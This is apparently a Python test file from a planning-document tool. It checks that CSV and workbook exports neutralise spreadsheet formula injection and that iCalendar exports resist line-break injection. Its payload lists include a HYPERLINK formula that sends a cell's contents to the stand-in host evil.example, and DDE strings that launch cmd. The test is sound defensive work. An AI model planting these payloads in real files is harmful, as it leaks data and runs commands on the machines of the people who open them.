"""Downloads opened by other programs: CSV cells never act as spreadsheet formulas, iCalendar
text never breaks out of its property."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import re

import icalendar
import openpyxl
import pytest

from plankb import deadlines, relations
from plankb.downloads import export, ics, workbook
from plankb.model import Node, Plan, Report
from plankb.sources.loader import load_corpus
from test_loader import FIXTURES

# OWASP CSV injection: a cell starting with one of these is read as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # the byte order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_text_cells_never_start_a_formula(hostile):
    corpus = load_corpus(FIXTURES / "minimal")
    plan = corpus.plans["xa-a-2026"]

    def with_hostile_text(nodes: tuple) -> tuple:  # nodes are frozen: a changed copy of the tree
        return tuple(dataclasses.replace(
            node, children=with_hostile_text(node.children),
            **({"text": hostile, "measures": tuple(dataclasses.replace(m, comparator="=") for m in node.measures)}
               if node.kind in ("target", "duty") else {})) for node in nodes)

    corpus.plans[plan.id] = dataclasses.replace(plan, body=with_hostile_text(plan.body))
    rel = relations.build(corpus)
    for table in (export.targets_csv(corpus), export.duties_csv(corpus, rel)):
        rows = _rows(table)
        assert len(rows) == 2  # one target, one duty: a CR in the text did not start a row
        cells = [cell for row in rows[1:] for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_START)] == []
        assert "'" + hostile in cells  # neutralised, not rewritten: the words stay readable
    texts = [t["text"] for t in json.loads(export.plans_json(corpus, rel))["plans"][0]["targets"]]
    assert texts == [hostile]  # the open-data JSON keeps the plan's words verbatim
    # The workbook, read back as a spreadsheet reads it: every cell from a source is a string,
    # never a formula, and holds the words as written.
    book = openpyxl.load_workbook(io.BytesIO(workbook.duties_and_targets(corpus, rel)))
    for name in ("Nhiệm vụ", "Chỉ tiêu"):
        cells = [cell for row in book[name].iter_rows(min_row=2) for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert hostile in [_ooxml_text(c.value) for c in cells], name


def _ooxml_text(value):
    """A cell's text as Excel reads it: OOXML writes a control character as _xHHHH_ (openpyxl
    leaves that escape as it is)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value


def test_csv_numbers_stay_numbers():
    corpus = load_corpus(FIXTURES / "minimal")
    header, *rows = _rows(export.targets_csv(corpus))
    assert dict(zip(header, rows[0], strict=True))["value"] == "80"


def _plan() -> Plan:
    return Plan("p", "Kế hoạch", "t", None, None, "a", "tinh", "x", 2022, 2025)


def _deadline() -> deadlines.Deadline:
    node = Node("n", text="…", report=Report(("a",), ("b",), (), ("hàng năm",), ("trước 15/12",)))
    return deadlines.of(_plan(), node)[0]


INJECTED = ["X-INJECTED:1", "DTSTART:19700101", "ATTACH:http://evil.example/", "END:VEVENT"]
BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]


def _hostile(prefix: str) -> str:
    return prefix + "".join(brk + injected for brk, injected in zip(BREAKS, INJECTED * 3, strict=False)) \
        + "\x00\x07\x1b\x7f\x9b\ud800"


def _unfolded(ics: str) -> list[str]:
    lines: list[str] = []
    for raw in ics.split("\r\n"):
        if raw.startswith(" ") and lines:
            lines[-1] += raw[1:]
        else:
            lines.append(raw)
    return lines


def test_ics_text_with_cr_and_controls_stays_in_its_property():
    summary, description = _hostile("Hạn báo cáo"), _hostile("Mô tả")
    written = ics.calendar(_hostile("Lịch"), [(_deadline(), summary, description)])
    # Raw: every line ends in CRLF, no bare CR or LF inside, no control character at all.
    assert written.endswith("\r\n")
    for line in written.split("\r\n"):
        assert "\r" not in line and "\n" not in line, repr(line)
        assert not any(ord(c) < 0x20 and c != "\t" or 0x7F <= ord(c) <= 0x9F for c in line), repr(line)
    names = [line.split(":", 1)[0].split(";", 1)[0] for line in _unfolded(written) if line]
    event_lines = ["BEGIN", "UID", "DTSTAMP", "DTSTART", "SUMMARY", "DESCRIPTION",
                   "BEGIN", "ACTION", "TRIGGER", "DESCRIPTION", "END", "END"]  # the event, its reminder
    years = range(2022, 2026)  # a yearly deadline: one event in each year of the plan's period
    assert names == ["BEGIN", "VERSION", "PRODID", "CALSCALE", "X-WR-CALNAME", *event_lines * len(years), "END"]
    # Parsed: one event a year, the injected text is part of SUMMARY, nothing else came in.
    cal = icalendar.Calendar.from_ical(written.encode("utf-8"))
    events = list(cal.walk("VEVENT"))
    assert [str(e.decoded("DTSTART")) for e in events] == [f"{year}-12-15" for year in years]
    for event in events:
        assert "X-INJECTED" not in event and "ATTACH" not in event
        for name in ("SUMMARY", "DESCRIPTION"):
            text = str(event[name])
            assert all(injected in text for injected in INJECTED), text
        assert str(event["SUMMARY"]).startswith("Hạn báo cáo\n")
        assert [str(a["DESCRIPTION"]) for a in event.walk("VALARM")] == [str(event["SUMMARY"])]


def test_ics_escapes_keep_ordinary_text():
    written = ics.calendar("Lịch", [(_deadline(), "a, b; c\\d", "dòng 1\ndòng 2")])
    event = next(iter(icalendar.Calendar.from_ical(written.encode("utf-8")).walk("VEVENT")))
    assert str(event["SUMMARY"]) == "a, b; c\\d"
    assert str(event["DESCRIPTION"]) == "dòng 1\ndòng 2"
